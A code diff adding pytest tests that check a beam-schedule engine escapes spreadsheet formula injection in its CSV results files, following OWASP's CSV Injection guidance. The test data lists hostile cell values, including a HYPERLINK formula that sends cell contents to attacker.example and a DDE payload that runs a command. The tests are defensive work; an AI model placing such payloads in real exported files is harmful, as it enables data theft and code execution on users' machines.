@@ -8,6 +8,7 @@ cell names its row, column and value; decimal commas refused).
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 
@@ -16,7 +17,7 @@ import pytest
 import engine
 import engine.schedule
 from engine.schedule import (REQUIRED_COLUMNS, RESULT_COLUMNS, ScheduleError, check_schedule,
-                             parse_schedule, run_schedule, schedule_csv)
+                             parse_schedule, run_schedule, schedule_csv, spreadsheet_safe)
 
 HEADER = "mark,units,fc,fy,b,d,As,Mu"
 
@@ -370,3 +371,51 @@ def test_an_unexpected_error_in_one_rows_check_fails_that_row_only(monkeypatch):
     assert "AssertionError" in broken.message and "please report" in broken.message
     assert schedule.summary.errors == 1 and schedule.summary.rows == 3
     assert len(list(csv.reader(io.StringIO(schedule_csv(schedule))))) == 4
+
+
+# Issue 10 item 4: results files are safe to open in a spreadsheet. The rule is OWASP's
+# "CSV Injection" guidance: a cell starting with = + - @, tab or carriage return gets a
+# leading single quote, which makes the spreadsheet show it as text.
+HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "+cmd|' /C calc'!A0",
+           "-1+1", "@SUM(1+1)", "\tB-1", " =1+1"]
+
+
+@pytest.mark.parametrize("text", HOSTILE + ["\r=1+1", "\n@A1"])
+def test_a_cell_that_a_spreadsheet_would_run_gets_a_quote(text):
+    assert spreadsheet_safe(text) == "'" + text
+    assert spreadsheet_safe("B-1 " + text) == "B-1 " + text  # only the start matters
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=["equals", "plus-dde", "minus", "at", "tab",
+                                               "space-equals"])
+def test_hostile_marks_unknown_cells_and_headers_are_written_as_text(text):
+    source = io.StringIO()
+    writer = csv.writer(source, lineterminator="\n")
+    writer.writerow(["mark", "units", "fc", "fy", "b", "d", "As", "Mu", "note", text])
+    writer.writerow([text, "us", 4000, 60000, 12, 21.5, 3.16, 180, text, "x"])
+    writer.writerow([text, "us", "bad", 60000, 12, 21.5, 3.16, 180, text, text])
+    schedule = run_schedule(source.getvalue())
+    assert schedule.rows[0].computed and not schedule.rows[1].computed
+    out = list(csv.reader(io.StringIO(schedule_csv(schedule))))
+    header = text.strip()  # header names are read without surrounding spaces and tabs
+    triggers = ("=", "+", "-", "@", "\t", "\r")
+    assert out[0][9] == ("'" + header if header.lstrip(" ")[:1] in triggers else header)
+    for row in out[1:]:
+        assert row[0] == row[8] == "'" + text  # mark and note, as given, behind a quote
+    for row in out:
+        for cell in row:
+            assert cell.startswith("'") or cell.lstrip(" ")[:1] not in triggers, row
+
+
+def test_numbers_stay_numbers_in_the_results_file():
+    # A negative number cannot run as a formula; a user's -2 and the engine's own values
+    # (a negative εt where the extreme layer is in compression) stay numbers.
+    schedule = run_schedule(_schedule("B-101,us,4000,60000,12,21.5,3.16,180,-2,+3.5",
+                                      header=HEADER + ",level,offset"))
+    row = schedule.rows[0]
+    negative = engine.schedule.Schedule(
+        columns=schedule.columns, unknown_columns=schedule.unknown_columns,
+        rows=(dataclasses.replace(row, eps_t=-0.0012, phiMn=-1.5),), summary=schedule.summary)
+    out = list(csv.DictReader(io.StringIO(schedule_csv(negative))))[0]
+    assert (out["level"], out["offset"]) == ("-2", "+3.5")
+    assert (out["eps_t"], out["phiMn"]) == ("-0.0012", "-1.5")
